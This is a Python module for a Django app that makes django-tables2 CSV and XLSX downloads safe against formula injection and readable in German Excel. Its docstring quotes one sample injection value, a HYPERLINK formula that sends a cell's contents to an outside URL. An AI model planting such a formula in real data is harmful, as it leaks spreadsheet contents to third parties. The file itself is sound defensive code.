"""Downloads of django-tables2 tables that a spreadsheet opens safely and, in Germany, readably.

A player's name is typed by anyone at the desk: ``=HYPERLINK("http://…?d="&A1,"Klick")`` would
become a live formula in Excel or LibreOffice (CSV or formula injection). Every text cell that
starts with a character a spreadsheet reads as the start of a formula gets an apostrophe in
front, as OWASP advises; numbers stay numbers. German Excel splits CSV at semicolons and guesses
the encoding from a byte-order mark, so the CSV has both. Text saved before the forms refused
control characters may still hold some; an XLSX cannot store them (openpyxl refuses the whole
file), so they are removed from every text cell.
"""

from typing import Any

from django_tables2 import Table
from django_tables2.export import TableExport
from tablib import Dataset

from sitewide.spreadsheet import BOM, safe_cell


class SafeTableExport(TableExport):
    """django-tables2's export, every cell safe (``safe_cell``), and a CSV for German Excel."""

    csv_delimiter = ";"
    csv_bom = True

    def table_to_dataset(
        self, table: Table, exclude_columns: Any, dataset_kwargs: Any = None
    ) -> Any:
        dataset = super().table_to_dataset(table, exclude_columns, dataset_kwargs)
        safe = Dataset(title=dataset.title)
        safe.headers = [safe_cell(header) for header in dataset.headers or []]
        for row in dataset:
            safe.append([safe_cell(value) for value in row])
        return safe

    def export(self) -> str | bytes:
        if self.format == self.CSV:
            text: str = self.dataset.export("csv", delimiter=self.csv_delimiter)
            return (BOM if self.csv_bom else "") + text
        exported: str | bytes = super().export()
        return exported
